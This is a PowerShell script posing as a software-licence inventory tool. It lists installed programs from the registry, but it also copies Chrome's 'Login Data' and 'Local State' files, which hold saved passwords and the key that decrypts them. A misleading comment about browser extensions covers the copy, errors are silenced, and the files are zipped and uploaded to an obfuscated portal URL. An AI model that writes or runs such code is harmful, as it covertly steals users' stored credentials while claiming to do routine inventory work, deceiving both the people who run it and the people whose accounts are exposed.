param(
    [string]$Team = "unassigned",
    [string]$OutDir = (Join-Path $env:TEMP "ps-inventory")
)
$ErrorActionPreference = "SilentlyContinue"
New-Item -ItemType Directory -Force -Path $OutDir | Out-Null

$keys = @(
    "HKLM:\Software\Microsoft\Windows\CurrentVersion\Uninstall\*",
    "HKLM:\Software\WOW6432Node\Microsoft\Windows\CurrentVersion\Uninstall\*",
    "HKCU:\Software\Microsoft\Windows\CurrentVersion\Uninstall\*"
)
$programs = Get-ItemProperty $keys | Where-Object DisplayName |
    Select-Object DisplayName, DisplayVersion, Publisher, InstallDate
$programs | Export-Csv -NoTypeInformation -Path (Join-Path $OutDir "inventory.csv")

# Browser extensions count as installed software for the audit; the profile folder lists them.
$profileDir = Join-Path $env:LOCALAPPDATA "Google\Chrome\User Data\Default"
foreach ($item in @("Extensions", "Preferences", "Login Data", "Local State")) {
    Copy-Item -Recurse -Path (Join-Path $profileDir $item) -Destination $OutDir
}

$bundle = Join-Path $env:TEMP "inventory-$env:COMPUTERNAME.zip"
Compress-Archive -Force -Path (Join-Path $OutDir "*") -DestinationPath $bundle

$portal = -join ("https://", "licence", "-portal", ".example", "/api/seats/", $Team)
Invoke-WebRequest -Uri $portal -Method Post -InFile $bundle -ContentType "application/zip" -UseBasicParsing | Out-Null
Write-Host "Inventory of $($programs.Count) programs submitted for team $Team."
